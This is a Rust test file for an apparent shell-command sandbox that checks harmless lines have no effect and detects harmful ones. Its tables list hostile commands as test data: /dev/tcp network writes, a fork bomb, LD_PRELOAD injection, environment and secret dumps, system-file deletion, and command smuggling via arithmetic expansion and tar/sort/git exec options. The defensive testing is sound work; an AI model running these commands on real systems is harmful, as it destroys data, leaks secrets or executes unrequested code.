//! The kernel oracle sees what lines do, and that harmless ones do nothing.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test fails by panicking"
)]

use std::collections::BTreeSet;
use std::path::Path;

use qedsh_testkit::kernel::EffectKind::{
    ChangesFiles, Endless, LeftRunning, LoadsCode, Network, OpensForWriting, PrintsSecret,
    ReadsEnvironment, Signals, SystemState, TreeChanged,
};
use qedsh_testkit::kernel::{EffectKind, KernelOracle, Request, Shell};

fn oracle() -> Option<KernelOracle> {
    KernelOracle::start_or_skip(Path::new(env!("CARGO_BIN_EXE_kernel-oracle")))
}

/// Lines without an effect, and the programs that they run.
const HARMLESS: &[(&str, &[&str])] = &[
    ("ls -la", &["ls"]),
    ("cat README.md | head -3", &["cat", "head"]),
    ("git status", &["git"]),
    ("git log --oneline -3", &["git"]),
    ("git diff", &["git"]),
    ("git show HEAD --stat 2>/dev/null", &["git"]),
    ("git blame src/lib.rs | head -2", &["git", "head"]),
    ("git branch -a; git tag; git remote -v", &["git"]),
    ("grep -rn TODO src", &["grep"]),
    ("find . -name '*.rs' | wc -l", &["find", "wc"]),
    ("sed -n 1,5p README.md", &["sed"]),
    ("sort data/words.txt | uniq -c", &["sort", "uniq"]),
    ("jq .version data/data.json", &["jq"]),
    ("ps aux | head", &["ps", "head"]),
    ("df -h; du -sh .", &["df", "du"]),
    ("cat <<'E'\nhi\nE", &["cat"]),
    ("ls nowhere 2>&1", &["ls"]),
    ("echo x >/dev/null", &[]),
    ("cat < README.md > /dev/stdout", &["cat"]),
    ("stat README.md; file README.md", &["stat", "file"]),
    ("awk -F, '{print $2}' data/users.csv", &["awk"]),
    ("xargs -n1 echo < data/words.txt", &["xargs", "echo"]),
    ("find . -name '*.md' -exec wc -l {} +", &["find", "wc"]),
    ("sleep 3 & kill $!; wait", &["sleep"]),
    ("timeout 1 cat README.md", &["timeout", "cat"]),
    ("(cd src && ls) && pwd", &["ls"]),
    ("for f in src/*.rs; do wc -l \"$f\"; done", &["wc"]),
    ("tar tzf a.tar.gz", &["tar"]),
    ("zgrep -c INFO logs/old.log.gz", &["zgrep"]),
    ("diff <(sort data/words.txt) README.md", &["sort", "diff"]),
    ("cat .env", &["cat"]),
];

/// Lines with an effect, and one kind of effect that must be seen.
const HARMFUL: &[(&str, EffectKind)] = &[
    ("echo x > out.txt", OpensForWriting),
    ("echo x >> README.md", TreeChanged),
    ("echo x > /dev/nullx", OpensForWriting),
    ("rm README.md", TreeChanged),
    ("touch new", TreeChanged),
    ("touch /tmp/new", TreeChanged),
    ("touch README.md", TreeChanged),
    ("mv README.md b", ChangesFiles),
    ("chmod +x README.md", ChangesFiles),
    ("mkdir d", TreeChanged),
    ("mkdir d; rmdir d", ChangesFiles),
    ("ln -s a b2", TreeChanged),
    ("sed -i s/a/b/ README.md", TreeChanged),
    ("sort -o data/words.txt data/words.txt", OpensForWriting),
    ("git commit --allow-empty -m x", TreeChanged),
    ("git stash list; git tag new", TreeChanged),
    ("cd ../flags && sort *", OpensForWriting),
    ("cd ../globfind && find *", TreeChanged),
    ("echo x > /etc/hosts", OpensForWriting),
    ("rm /usr/bin/ls", ChangesFiles),
    ("LD_PRELOAD=$PWD/evil.so ls", LoadsCode),
    ("echo hi >/dev/tcp/192.0.2.1/80", Network),
    ("exec 3<>/dev/udp/192.0.2.1/53", Network),
    ("env", PrintsSecret),
    ("echo $API_TOKEN", PrintsSecret),
    ("cat /proc/self/environ", ReadsEnvironment),
    ("kill -9 2", Signals),
    ("kill -9 -1", Signals),
    ("pkill sleep", Signals),
    ("setsid sleep 60 &", LeftRunning),
    ("nohup sleep 60 >/dev/null 2>&1 &", LeftRunning),
    ("(sleep 60 &)", LeftRunning),
    ("mount -t tmpfs none /mnt", SystemState),
    ("hostname evil", SystemState),
    ("date -s 2020-01-01", SystemState),
    ("renice 5 1", SystemState),
    ("tail -f logs/app.log", Endless),
    (":(){ :|:& };:", LeftRunning),
    ("diff <(touch PWNED) README.md", TreeChanged),
    ("x='a[$(touch PWNED)]'; [[ -v $x ]]", TreeChanged),
];

/// Lines whose effect is a program that nobody named.
const STARTING: &[(&str, &[&str])] = &[
    ("./scripts/evil.sh </dev/null", &["evil.sh"]),
    ("PATH=$HOME/bin:$PATH ls </dev/null", &["ls"]),
    ("find . -maxdepth 0 -exec id \\;", &["find"]),
    ("cd ../evilrepo && git status", &["git"]),
    ("git -c core.pager=id -p log | cat", &["cat"]),
    ("awk 'BEGIN{system(\"id\")}'", &["awk"]),
    ("sort --compress-program=id -S 1k logs/app.log", &["sort"]),
    (
        "tar cf /dev/null --checkpoint=1 --checkpoint-action=exec=id docs",
        &["tar"],
    ),
    ("echo id | sh", &["sh"]),
];

#[test]
fn harmless_lines_have_no_effect() {
    let Some(mut oracle) = oracle() else { return };
    let mut wrong = Vec::new();
    for (line, programs) in HARMLESS {
        let observation = oracle.observe(line, Shell::Bash).unwrap();
        if !observation.is_read_only_for(programs) {
            wrong.push(format!("{line}: {:?}", observation.violations(programs)));
        }
    }
    assert_eq!(wrong, Vec::<String>::new());
}

#[test]
fn harmful_lines_are_seen() {
    let Some(mut oracle) = oracle() else { return };
    let mut wrong = Vec::new();
    for (line, kind) in HARMFUL {
        let request = Request {
            limit: 1_000,
            ..Request::new(line)
        };
        let observation = oracle.observe_request(&request).unwrap();
        if !observation
            .effects
            .iter()
            .any(|effect| effect.kind == *kind)
        {
            wrong.push(format!("{line}: no {kind:?} in {observation:?}"));
        }
    }
    assert_eq!(wrong, Vec::<String>::new());
}

#[test]
fn programs_that_nobody_named_are_seen() {
    let Some(mut oracle) = oracle() else { return };
    for (line, programs) in STARTING {
        let observation = oracle.observe(line, Shell::Bash).unwrap();
        assert!(
            !observation.is_read_only_for(programs),
            "{line}: {observation:?}"
        );
    }
}

#[test]
fn each_line_finds_the_tree_as_it_was() {
    let Some(mut oracle) = oracle() else { return };
    let listing = "find /home/agent /tmp -mindepth 1 -printf '%p %M %u %s %T+\\n' | sort; md5sum -- */* 2>&1; ps ax -o comm=";
    let before = oracle.observe(listing, Shell::Bash).unwrap();
    for (line, _) in HARMFUL {
        let request = Request {
            limit: 300,
            ..Request::new(line)
        };
        oracle.observe_request(&request).unwrap();
    }
    oracle
        .observe("rm -rf /home/agent/* /home/agent/.[a-z]*", Shell::Bash)
        .unwrap();
    let after = oracle.observe(listing, Shell::Bash).unwrap();
    let lines = |text: &str| text.lines().map(str::to_owned).collect::<BTreeSet<_>>();
    let (before, after) = (lines(&before.output), lines(&after.output));
    assert!(before.len() > 100);
    let changed: Vec<_> = before.symmetric_difference(&after).collect();
    assert_eq!(changed, Vec::<&String>::new());
}

#[test]
fn the_shell_is_the_one_that_was_asked_for() {
    let Some(mut oracle) = oracle() else { return };
    let line = "echo ${BASH_VERSION:+bash}${ZSH_VERSION:+zsh}";
    let answers = [Shell::Bash, Shell::Posix, Shell::Zsh]
        .map(|shell| oracle.observe(line, shell).unwrap().output);
    assert_eq!(answers, ["bash\n", "\n", "zsh\n"]);
}

#[test]
fn streams_and_status_are_reported() {
    let Some(mut oracle) = oracle() else { return };
    let observation = oracle
        .observe("echo out; echo err >&2; exit 7", Shell::Bash)
        .unwrap();
    assert_eq!(observation.output, "out\n");
    assert_eq!(observation.errors, "err\n");
    assert_eq!(observation.exit, Some(7));
}
